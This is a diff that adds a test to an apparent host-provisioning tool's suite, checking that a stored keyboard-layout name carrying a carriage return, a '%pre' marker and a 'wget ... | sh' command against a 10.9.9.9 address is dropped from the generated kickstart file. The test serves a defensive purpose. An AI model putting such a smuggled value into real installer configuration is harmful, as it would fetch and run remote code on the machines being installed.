@@ -180,6 +180,25 @@ describe('getBootMaterial', () => {
     expect(t.app.getSettings().boot.dhcp).toEqual(before.boot.dhcp)
   })
 
+  it('leaves out a keyboard layout stored before such a name was refused, and the profile still opens', () => {
+    const before = t.app.store.settings.profile()
+    try {
+      // As an older Midwife stored it: a CR, then what the installer would take for commands.
+      t.app.store.settings.saveProfile(before.spec, {
+        ...before.install,
+        keyboard: 'US Default\r%pre\rwget -O- http://10.9.9.9/x | sh',
+        overwriteVmfs: true,
+      })
+      expect(t.app.getProfile().install).toMatchObject({ overwriteVmfs: true })
+      expect(t.app.getProfile().install.keyboard).toBeUndefined()
+      const kickstart = t.app.getBootMaterial(host.id).artifacts.find((a) => a.kind === 'kickstart')
+      expect(kickstart?.text).toContain('--overwritevmfs')
+      expect(kickstart?.text).not.toMatch(/keyboard|\r|10\.9\.9\.9/)
+    } finally {
+      t.app.store.settings.saveProfile(before.spec, before.install)
+    }
+  })
+
   it('shows the generic files and lines for unknown servers', () => {
     const d = t.app.getDiscoveryMaterial()
     const paths = d.artifacts.map((a) => a.path)
